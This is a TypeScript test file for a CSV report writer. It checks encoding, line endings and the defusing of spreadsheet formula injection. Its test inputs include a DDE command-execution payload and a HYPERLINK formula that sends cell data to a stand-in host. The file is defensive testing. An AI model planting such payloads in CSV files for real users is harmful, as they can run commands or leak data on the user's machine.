import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { columnNames } from '../../src/report/columns.ts';
import { csvReport } from '../../src/report/formats/csv.ts';
import type { ReportRow } from '../../src/report/model.ts';
import { fc } from '../helpers/fast-check.ts';
import { reportOf, rowOf } from './fixtures.ts';

const csvOf = (...rows: readonly ReportRow[]): string => csvReport({ ...reportOf(), rows });
const cellsOf = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: '\r\n' });

/** The cell of a column in the only row of a report. */
function cellOf(row: ReportRow, column: keyof ReportRow): string | undefined {
  const [header, cells] = cellsOf(csvOf(row));
  return cells?.[header?.indexOf(column) ?? -1];
}

const prompt = columnNames.indexOf('prompt');

describe('the CSV report', () => {
  it('begins with a byte-order mark and the columns of the JSON report in their order', () => {
    const csv = csvOf(rowOf());
    expect(csv.startsWith(`\ufeff${Object.keys(rowOf()).join(',')}\r\n`)).toBe(true);
  });

  it('has its columns also when it has no rows', () => {
    expect(csvOf()).toBe(`\ufeff${Object.keys(rowOf()).join(',')}\r\n`);
  });

  it('ends every line in CRLF and keeps line breaks inside cells as they are', () => {
    const csv = csvOf(rowOf({ prompt: 'first\nsecond' }), rowOf({ prompt: 'third\r\nfourth\rfifth' }));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(cellsOf(csv).map((cells) => cells[prompt])).toEqual([
      'prompt',
      'first\nsecond',
      'third\r\nfourth\rfifth',
    ]);
  });

  it('quotes a lone line feed, which ends a row for readers of any line end', () => {
    const csv = csvOf(rowOf({ prompt: 'first\nsecond' }), rowOf({ prompt: 'third\rfourth' }));
    expect(csv).toContain('"first\nsecond"');
    expect(csv).toContain('"third\rfourth"');
    expect(parse(csv, { bom: true })).toHaveLength(3);
  });

  it('keeps Chinese, quotes, commas and emoji', () => {
    const prompt = '雨夜，霓虹灯下的"米卡", slowly; 🌃\tend';
    expect(cellOf(rowOf({ prompt }), 'prompt')).toBe(prompt);
  });

  it('leaves what has no value empty, and writes numbers and truths plainly', () => {
    const row = rowOf({ variant: null, actualDuration: 5.04, cost: -5, superseded: true });
    expect(cellOf(row, 'variant')).toBe('');
    expect(cellOf(row, 'actualDuration')).toBe('5.04');
    expect(cellOf(row, 'cost')).toBe('-5');
    expect(cellOf(row, 'superseded')).toBe('true');
    expect(cellOf(rowOf(), 'superseded')).toBe('false');
    expect(cellOf(rowOf({ cost: 0 }), 'cost')).toBe('0');
    expect(cellOf(rowOf({ cost: null }), 'cost')).toBe('');
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tplain',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '"=1+1',
    "'=1+1",
    '＝1+1',
    '－1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
  ])('takes the sting out of %j', (prompt) => {
    expect(cellOf(rowOf({ prompt }), 'prompt')).toBe(`'${prompt}`);
    expect(cellOf(rowOf({ error: prompt }), 'error')).toBe(`'${prompt}`);
  });

  it.each(["'quoted' words", 'a =1', '1-2', '“hello”', '(-1)', '5'])('leaves %j as it is', (prompt) => {
    expect(cellOf(rowOf({ prompt }), 'prompt')).toBe(prompt);
  });

  it('reads back as what was written, and nothing in it starts a formula', () => {
    const nasty = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .array(
          fc.constantFrom(
            '=',
            '+',
            '-',
            '@',
            '\t',
            '\r',
            '\n',
            '\r\n',
            ' ',
            '"',
            "'",
            ',',
            ';',
            '1',
            'a',
            '雨',
            '＝',
            '\ufeff',
          ),
        )
        .map((parts) => parts.join('')),
    );
    const row = fc
      .record({
        prompt: nasty,
        error: fc.option(nasty),
        taskId: fc.option(nasty),
        cost: fc.option(fc.double({ noNaN: true })),
      })
      .map((more) => rowOf(more));
    fc.assert(
      fc.property(fc.array(row, { maxLength: 4 }), (rows) => {
        const [header, ...lines] = cellsOf(csvOf(...rows));
        expect(header).toEqual(Object.keys(rowOf()));
        expect(lines.map((cells) => cells.map(undefused))).toEqual(
          rows.map((each) => Object.values(each).map((value) => (value === null ? '' : String(value)))),
        );
        const texts = lines.flatMap((cells) => cells.filter((cell) => Number.isNaN(Number(cell))));
        for (const cell of texts) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
      { numRuns: 300 },
    );
  });
});

/** What a cell said before it was defused, as a reader of the file can know it. */
function undefused(cell: string): string {
  return /^'(?:[\s']*[\t\r\n]|[\s\p{Z}\p{Cf}'"`“”‘’]*[=+\-@＝＋－＠])/u.test(cell) ? cell.slice(1) : cell;
}
